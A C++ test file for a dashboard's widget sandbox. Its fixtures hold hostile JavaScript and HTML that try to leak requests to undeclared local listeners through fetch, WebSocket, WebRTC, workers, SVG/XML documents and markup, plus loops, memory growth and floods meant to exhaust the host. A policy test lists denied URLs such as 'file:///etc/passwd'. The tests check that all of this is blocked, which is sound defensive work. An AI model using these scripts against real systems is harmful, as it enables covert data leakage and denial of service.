// Hostile widgets against real listeners on 127.0.0.1: an HTTP server no widget declared, a raw
// TCP port that one widget declares as its HTTPS origin, and a UDP port. Widgets try every route
// out of the page; nothing undeclared may reach a listener, and the declared origin must. And
// widgets that try to make the dashboard's process, which all widgets share, pay for them.
#include "support/WebWidgetFixture.h"
#include "widgets/RequestPolicy.h"

#include <QJsonArray>
#include <QNetworkDatagram>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTest>
#include <QUdpSocket>
#include <QWebEngineView>

namespace {

// Accepts connections and records what arrives; answers HTTP requests with a permissive "ok".
struct TcpListener {
    QTcpServer server;
    int connections = 0;
    QList<QByteArray> firstBytes; // of each connection, as far as they came

    explicit TcpListener(bool answersHttp) {
        EXPECT_TRUE(server.listen(QHostAddress::LocalHost));
        QObject::connect(&server, &QTcpServer::newConnection, [this, answersHttp] {
            while (QTcpSocket* socket = server.nextPendingConnection()) {
                ++connections;
                const qsizetype index = firstBytes.size();
                firstBytes.append(QByteArray());
                QObject::connect(
                        socket, &QTcpSocket::readyRead, [this, socket, index, answersHttp] {
                            firstBytes[index] += socket->readAll().left(200);
                            if (answersHttp && firstBytes[index].contains("\r\n\r\n"))
                                socket->write(
                                        "HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\n"
                                        "Content-Length: 2\r\nConnection: close\r\n\r\nok");
                        });
                QObject::connect(socket, &QTcpSocket::disconnected, socket, &QObject::deleteLater);
            }
        });
    }
    quint16 port() const { return server.serverPort(); }
    QString seen() const {
        QStringList lines;
        for (const QByteArray& bytes : firstBytes)
            lines.append(QString::fromLatin1(bytes.left(60).toPercentEncoding(" /:?=")));
        return lines.join(" | ");
    }
};

struct UdpListener {
    QUdpSocket socket;
    int datagrams = 0;

    UdpListener() {
        EXPECT_TRUE(socket.bind(QHostAddress::LocalHost, 0));
        QObject::connect(&socket, &QUdpSocket::readyRead, [this] {
            while (socket.hasPendingDatagrams()) {
                socket.receiveDatagram();
                ++datagrams;
            }
        });
    }
    quint16 port() const { return socket.localPort(); }
};

// Every route out of a page, each to a path naming itself. HOST is the undeclared HTTP listener,
// DECLARED the raw TCP port, UDP the UDP port.
const char* const attackScript = R"JS(
const H = 'http://127.0.0.1:HOST', HS = 'https://127.0.0.1:HOST';
const attempt = f => { try { const p = f(); if (p && p.catch) p.catch(() => {}); } catch (e) {} };
function peers(Peer) {
  const peer = new Peer({ iceServers: [{ urls: 'stun:127.0.0.1:UDP' },
      { urls: 'turn:127.0.0.1:HOST?transport=tcp', username: 'u', credential: 'p' },
      { urls: 'turn:127.0.0.1:UDP?transport=udp', username: 'u', credential: 'p' }] });
  peer.createDataChannel('leak');
  return peer.createOffer().then(offer => peer.setLocalDescription(offer));
}
function everyRoute(where) {
  attempt(() => fetch(H + '/leak/fetch-' + where));
  attempt(() => fetch(HS + '/leak/https-' + where));
  attempt(() => fetch('http://127.0.0.1:DECLARED/leak/plain-to-declared-port-' + where));
  attempt(() => { const x = new XMLHttpRequest(); x.open('GET', H + '/leak/xhr-' + where); x.send(); });
  attempt(() => new WebSocket('ws://127.0.0.1:HOST/leak/websocket-' + where));
  attempt(() => new WebSocket('wss://127.0.0.1:DECLARED/leak/websocket-' + where));
  attempt(() => new EventSource(H + '/leak/eventsource-' + where));
  attempt(() => new WebTransport('https://127.0.0.1:UDP/leak/' + where));
}
everyRoute('page');
attempt(() => navigator.sendBeacon(H + '/leak/beacon', 'x'));
attempt(() => { new Image().src = H + '/leak/image'; });
attempt(() => peers(RTCPeerConnection));
attempt(() => peers(webkitRTCPeerConnection));
attempt(() => {
  const frame = document.createElement('iframe');
  document.body.appendChild(frame);
  return peers(frame.contentWindow.RTCPeerConnection);
});
attempt(() => new Worker('worker.js'));
attempt(() => new Worker('module.js', { type: 'module' }));
attempt(() => new SharedWorker('worker.js'));
attempt(() => {
  const link = document.createElement('a');
  link.href = 'page.htm';
  link.ping = H + '/leak/ping';
  document.body.appendChild(link);
  link.click();
});
window.attacked = true;
)JS";

const char* const workerScript = R"JS(
everyRoute('worker');
try { importScripts(H + '/leak/import-scripts'); } catch (e) {}
try {
  const blob = new Blob(["fetch('" + H + "/leak/nested-blob-worker')"]);
  new Worker(URL.createObjectURL(blob));
} catch (e) {}
)JS";

// Markup that loads from the listener without any script.
const char* const attackPage = R"HTML(<html><head>
<link rel="stylesheet" href="http://127.0.0.1:HOST/leak/stylesheet">
<link rel="preconnect" href="http://127.0.0.1:HOST">
<link rel="dns-prefetch" href="http://127.0.0.1:HOST">
<link rel="prefetch" href="http://127.0.0.1:HOST/leak/prefetch">
<link rel="preload" as="fetch" href="http://127.0.0.1:HOST/leak/preload">
<link rel="icon" href="http://127.0.0.1:HOST/leak/icon">
<style>
@import url(http://127.0.0.1:HOST/leak/import);
@font-face { font-family: leak; src: url(http://127.0.0.1:HOST/leak/font); }
body { background: url(http://127.0.0.1:HOST/leak/background); font-family: leak; }
</style></head><body><p>hostile</p>
<img src="http://127.0.0.1:HOST/leak/img">
<audio src="http://127.0.0.1:HOST/leak/audio" autoplay></audio>
<video src="http://127.0.0.1:HOST/leak/video" preload="auto"></video>
<iframe src="page.htm"></iframe><object data="image.svg"></object>
<script src="attack.js"></script></body></html>)HTML";

// Documents that are not HTML files but would run script if they opened as the page.
const QList<QPair<QString, QByteArray>> otherDocuments = {
        {"page.htm",
         "<html><body><script src=\"doc.js\"></script>"
         "<script>fetch('http://127.0.0.1:HOST/leak/htm-inline')</script></body></html>"},
        {"page.xhtml", "<html xmlns=\"http://www.w3.org/1999/xhtml\"><body><script>"
                       "fetch('http://127.0.0.1:HOST/leak/xhtml')</script></body></html>"},
        {"image.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>"
                      "fetch('http://127.0.0.1:HOST/leak/svg')</script></svg>"},
        {"data.xml", "<root><script xmlns=\"http://www.w3.org/1999/xhtml\">"
                     "fetch('http://127.0.0.1:HOST/leak/xml')</script></root>"}};

struct HostileWidgetTest : StoreFixture {
    TcpListener host{true};
    TcpListener declared{false};
    UdpListener udp;
    std::unique_ptr<WebWidget> widget;
    QStringList blocked;

    void SetUp() override {
        customize = [](TarnStore::Environment& environment) {
            environment.resources = TABLORA_RESOURCES_DIRECTORY;
        };
    }
    void TearDown() override {
        widget.reset();
        store.reset();
    }

    QByteArray withPorts(QByteArray text) const {
        return text.replace("HOST", QByteArray::number(host.port()))
                .replace("DECLARED", QByteArray::number(declared.port()))
                .replace("UDP", QByteArray::number(udp.port()));
    }
    QString declaredOrigin() const { return QString("https://127.0.0.1:%1").arg(declared.port()); }

    void load(bool network) {
        const QString id = network ? "com.example.networked" : "com.example.offline";
        PackageBuilder builder(QDir(directory()).filePath("Widgets"));
        QJsonObject manifest = PackageBuilder::validManifest(id);
        if (network) {
            manifest["permissions"] = QJsonArray{"network"};
            manifest["networkOrigins"] = QJsonArray{declaredOrigin()};
        }
        const QString root = id + ".tarnwidget/";
        builder.write(id + ".tarnwidget", manifest);
        builder.file(root + "index.html", withPorts(attackPage));
        builder.file(root + "attack.js", withPorts(attackScript));
        builder.file(
                root + "worker.js",
                withPorts(QByteArray(attackScript)
                                  .left(QByteArray(attackScript).indexOf("everyRoute('page')")) +
                          workerScript));
        builder.file(root + "doc.js", withPorts("fetch('http://127.0.0.1:HOST/leak/htm')"));
        // A module's imports run before its own first line.
        builder.file(root + "module.js", "import './imported.js';");
        builder.file(root + "imported.js",
                     withPorts("new WebSocket('ws://127.0.0.1:HOST/leak/module-import');"));
        for (const auto& [name, contents] : otherDocuments)
            builder.file(root + name, withPorts(contents));
        open();
        store->widgets().reload();
        widget = std::make_unique<WebWidget>(*store->widgets().package(id), *store, std::nullopt);
        QObject::connect(widget.get(), &WebWidget::requestBlocked,
                         [this](const QString& origin) { blocked.append(origin); });
        widget->resize(300, 200);
        widget->show();
        ASSERT_TRUE(waitUntil([&] { return widget->isReady(); }, 30000));
        ASSERT_TRUE(waitUntil([&] { return evaluate("window.attacked === true").toBool(); }));
    }

    QVariant evaluate(const QString& script) {
        auto result = std::make_shared<std::optional<QVariant>>();
        widget->page()->runJavaScript(script, [result](const QVariant& value) { *result = value; });
        EXPECT_TRUE(waitUntil([&] { return result->has_value(); }, 20000)) << script.toStdString();
        return result->value_or(QVariant());
    }

    // The page opens each other document itself, as a hostile entry page would.
    void openOtherDocuments() {
        for (const auto& entry : otherDocuments) {
            evaluate(QString("location.href = '%1'").arg(entry.first));
            spin(400);
            EXPECT_TRUE(widget->page()->url().path().endsWith(".html"))
                    << entry.first.toStdString();
        }
    }

    void expectNothingUndeclaredArrived() {
        EXPECT_EQ(host.connections, 0) << host.seen().toStdString();
        EXPECT_EQ(udp.datagrams, 0);
        // The declared port only ever sees TLS handshakes (they start with 0x16).
        for (const QByteArray& bytes : declared.firstBytes)
            EXPECT_TRUE(bytes.isEmpty() || bytes.startsWith('\x16'))
                    << declared.seen().toStdString();
    }
};

// A neighbour that measures its round trips to the dashboard while another widget floods it.
const char* const roundTrips = R"JS(
window.trips = [];
async function trip() {
  const start = performance.now();
  await Tarn.command('storage.set', {key: 'k', value: String(start)});
  window.trips.push(performance.now() - start);
}
setInterval(trip, 50);
)JS";

// Commands of about 1 MB, under the size of one message, 19 every 100 ms.
const char* const messageFlood = R"JS(
const big = 'x'.repeat(990000);
let started = false;
Tarn.onUpdate(() => {
  if (started) return;
  started = true;
  setInterval(() => {
    for (let i = 0; i < 19; ++i) Tarn.command('notes.set', {text: big}).catch(() => {});
  }, 100);
});
)JS";

// Files that do not exist, 4,000 a second.
const char* const requestFlood = R"JS(
let n = 0, started = false;
Tarn.onUpdate(() => {
  if (started) return;
  started = true;
  setInterval(() => { for (let i = 0; i < 40; ++i) new Image().src = 'missing-' + n++ + '.png'; }, 10);
});
)JS";

// The web storage a page could fill, blobs and history it could pile up, and windows it could
// open, everywhere it could look.
const char* const storageAndWindows = R"JS(
window.hoard = () => {
  const kept = [];
  try {
    for (let i = 0; i < 10; ++i) kept.push(new Blob([new Uint8Array(16 << 20)]));
  } catch (e) {
    return e.name + ' after ' + kept.length;
  }
  return 'all of them';
};
window.remember = size => {
  try { history.pushState({text: 'z'.repeat(size)}, ''); return 'kept'; } catch (e) { return e.name; }
};
const names = ['indexedDB', 'caches', 'openDatabase', 'webkitRequestFileSystem'];
const look = w => names.map(name => typeof w[name]).concat(typeof w.navigator.storage).join(',');
const frame = document.createElement('iframe');
document.body.appendChild(frame);
window.seen = look(window) + '|' + look(frame.contentWindow);
new Worker('worker.js').onmessage = event => window.seen += '|' + event.data;
document.addEventListener('click', () => {
  window.opened = [window.open(''), document.open('', 'x', ''), frame.contentWindow.open('')]
      .map(String).join(',');
  console.log('C'.repeat(10 * 1024 * 1024));
});
)JS";

// The sanitizers' build keeps freed memory aside and runs the dashboard's side many times slower:
// there, what a flood costs is not measured, only what it does.
#if defined(__SANITIZE_ADDRESS__)
constexpr bool costsMeasured = false;
#else
constexpr bool costsMeasured = true;
#endif

struct HostileResourceTest : WebWidgetFixture {
    static double dashboardMegabytes(const QByteArray& field) {
        return statusMegabytes(QCoreApplication::applicationPid(), field);
    }

    // Beats of the store as the dashboard has them, for `seconds`.
    void beat(double seconds, const std::function<bool()>& done) {
        for (double passed = 0; passed < seconds && !done(); passed += 0.25) {
            spin(250);
            clock->advance(0.25);
            store->tick(clock->now());
        }
    }
};

} // namespace

TEST_F(HostileResourceTest, FloodsOfMessagesOrRequestsCostTheDashboardNothingAndStopTheFlooder) {
    writePackage("com.example.neighbour", {"storage"}, defaultHTML, roundTrips);
    writePackage("com.example.messages", {"notes"}, defaultHTML, messageFlood);
    writePackage("com.example.requests", {}, defaultHTML, requestFlood);
    WebWidget& neighbour = show("com.example.neighbour");
    EXPECT_TRUE(becomes(neighbour, "window.trips.length > 3", true));
    const double before = dashboardMegabytes("VmRSS");

    for (const auto& [id, stop] :
         {std::pair{"com.example.messages", "This widget sent too many messages"},
          std::pair{"com.example.requests", "This widget made too many requests"}}) {
        WebWidget& flooder = show(id);
        // From the flood on, not while a new widget is made.
        evaluate(neighbour, "window.trips = []");
        EXPECT_TRUE(waitUntil([&] { return flooder.failure().has_value(); }, 10000)) << id;
        EXPECT_EQ(flooder.failure().value_or(""), stop);
        spin(500);
        // The flood held up no other widget. (Before these budgets, round trips took seconds.)
        QList<double> trips;
        for (const QVariant& trip : evaluate(neighbour, "window.trips").toList())
            trips.append(trip.toDouble());
        ASSERT_GT(trips.size(), 5) << id;
        std::sort(trips.begin(), trips.end());
        // Another test may share the machine: a stray slow trip is its doing, a slow tenth ours.
        if (costsMeasured) {
            EXPECT_LT(trips[trips.size() / 2], 10) << id;
            EXPECT_LT(trips[trips.size() * 9 / 10], 50) << id;
            EXPECT_LT(trips.last(), 250) << id;
        }
    }
    if (costsMeasured) {
        EXPECT_LT(dashboardMegabytes("VmHWM") - before, 150) << "from " << before << " MB";
        EXPECT_LT(dashboardMegabytes("VmRSS") - before, 100) << "from " << before << " MB";
    }
}

TEST_F(HostileResourceTest, APageThatKeepsTheProcessorBusyOrGrowsWithoutEndIsStopped) {
    writePackage("com.example.loop", {}, defaultHTML,
                 "Tarn.onUpdate(() => setTimeout(() => { for (;;) {} }, 0));");
    writePackage(
            "com.example.grow", {}, defaultHTML,
            "const kept = []; Tarn.onUpdate(() => setInterval(() => {"
            "  const block = new Uint8Array(8 << 20); block.fill(7); kept.push(block); }, 20));");
    writePackage("com.example.calm", {}, defaultHTML, "");
    // Half a core would be too much to ask of a loop on a busy two-core machine.
    const RendererLimits limits{300LL << 20, 0.25, 3};
    for (const char* id : {"com.example.loop", "com.example.grow", "com.example.calm"})
        show(id).setRendererLimits(limits);
    beat(20, [&] { return widgets[0]->failure() && widgets[1]->failure(); });
    EXPECT_EQ(widgets[0]->failure().value_or(""), "This widget used too much processor time");
    EXPECT_EQ(widgets[1]->failure().value_or(""), "This widget used too much memory");
    EXPECT_FALSE(widgets[2]->failure().has_value());
    // The reason stays in the widget's log for its author.
    QFile log(widgets[1]->log().path());
    ASSERT_TRUE(log.open(QIODevice::ReadOnly));
    EXPECT_TRUE(
            log.readAll().contains("stopped by the dashboard: This widget used too much memory"));
}

TEST_F(HostileResourceTest, NoWebStorageNoHoardNoWindowsAndNoLongConsoleLines) {
    writePackage("com.example.hoard", {}, defaultHTML, storageAndWindows);
    PackageBuilder(QDir(directory()).filePath("Widgets"))
            .file("com.example.hoard.tarnwidget/worker.js",
                  "postMessage(['indexedDB', 'caches', 'webkitRequestFileSystem', 'Blob']"
                  ".map(name => typeof self[name]).concat(typeof navigator.storage).join(','));");
    WebWidget& widget = show("com.example.hoard");
    const QString none = "undefined,undefined,undefined,undefined,undefined";
    EXPECT_TRUE(becomes(widget, "window.seen", none + "|" + none + "|" + none));

    // Blobs and history states live in the dashboard's process: a page keeps a few only, and
    // may make new ones once it let the old ones go.
    const double before = dashboardMegabytes("VmRSS");
    EXPECT_EQ(evaluate(widget, "window.hoard()"), "QuotaExceededError after 4");
    EXPECT_TRUE(becomes(widget, "window.hoard()", "QuotaExceededError after 4", 20000));
    if (costsMeasured) {
        EXPECT_LT(dashboardMegabytes("VmRSS") - before, 100);
    }
    EXPECT_EQ(evaluate(widget, "window.remember(100)"), "kept");
    EXPECT_EQ(evaluate(widget, "window.remember(1e6)"), "QuotaExceededError");

    QStringList lines;
    QObject::connect(&widget, &WebWidget::logged,
                     [&lines](const QString& line, WebWidget::LineKind) { lines.append(line); });
    // A real click: the page may open windows now, if it could at all.
    QWidget* surface = QWebEngineView::forPage(widget.page())->focusProxy();
    ASSERT_NE(surface, nullptr);
    QTest::mouseClick(surface, Qt::LeftButton, {}, QPoint(5, 5));
    EXPECT_TRUE(becomes(widget, "window.opened", "null,null,null"));
    ASSERT_TRUE(waitUntil([&] { return !lines.isEmpty(); }));
    EXPECT_LT(lines.first().size(), 4200);
    EXPECT_TRUE(lines.first().contains("(cut")) << lines.first().left(200).toStdString();
}

TEST_F(HostileWidgetTest, AWidgetWithoutTheNetworkPermissionReachesNothing) {
    load(false);
    openOtherDocuments();
    spin(2500); // workers, media and peer connections take their time
    expectNothingUndeclaredArrived();
    EXPECT_EQ(declared.connections, 0) << declared.seen().toStdString();
    // Once per origin, for the widget's log.
    EXPECT_EQ(blocked.count(QString("http://127.0.0.1:%1").arg(host.port())), 1)
            << blocked.join(", ").toStdString();
    EXPECT_FALSE(widget->failure().has_value());
}

TEST_F(HostileWidgetTest, ADeclaredOriginIsReachedAndNothingElse) {
    load(true);
    openOtherDocuments();
    evaluate(QString("fetch('%1/declared').catch(() => {})").arg(declaredOrigin()));
    EXPECT_TRUE(waitUntil([&] { return declared.connections > 0; }, 10000));
    spin(2500);
    expectNothingUndeclaredArrived();
    EXPECT_TRUE(declared.firstBytes.value(0).startsWith('\x16')) << declared.seen().toStdString();
}

TEST(RequestPolicyRules, OnlyThePackageAndDeclaredOriginsAndOnlyHtmlAsDocuments) {
    WidgetManifest manifest;
    manifest.permissions = {"network"};
    manifest.networkOrigins = QStringList{"https://api.example.com", "https://example.org:8443"};
    const RequestPolicy policy(manifest);
    using D = RequestPolicy::Destination;
    EXPECT_TRUE(policy.allows(QUrl("tarn-widget://widget/index.html"), D::document));
    EXPECT_TRUE(policy.allows(QUrl("tarn-widget://widget/sub/PAGE.HTML?x#y"), D::document));
    EXPECT_TRUE(policy.allows(QUrl("tarn-widget://widget/_tarn/tarn.js"), D::resource));
    EXPECT_TRUE(policy.allows(QUrl("data:image/png;base64,AA=="), D::resource));
    EXPECT_TRUE(policy.allows(QUrl("https://API.example.com/v1"), D::resource));
    EXPECT_TRUE(policy.allows(QUrl("https://api.example.com:443/v1"), D::resource));
    EXPECT_TRUE(policy.allows(QUrl("https://example.org:8443/"), D::resource));
    for (const char* document : {"page.htm", "page.xhtml", "image.svg", "data.xml", "x.html.svg"})
        EXPECT_FALSE(policy.allows(QUrl(QString("tarn-widget://widget/") + document), D::document))
                << document;
    for (const char* url :
         {"tarn-widget://other/index.html", "http://api.example.com/", "wss://api.example.com/",
          "https://example.org/", "https://api.example.com:444/", "https://evil.example.com/",
          "file:///etc/passwd", "ftp://api.example.com/"})
        EXPECT_FALSE(policy.allows(QUrl(url), D::resource)) << url;
    EXPECT_FALSE(policy.allows(QUrl("https://api.example.com/"), D::document));

    manifest.permissions.clear(); // origins without the permission count for nothing
    EXPECT_FALSE(RequestPolicy(manifest).allows(QUrl("https://api.example.com/"), D::resource));
}
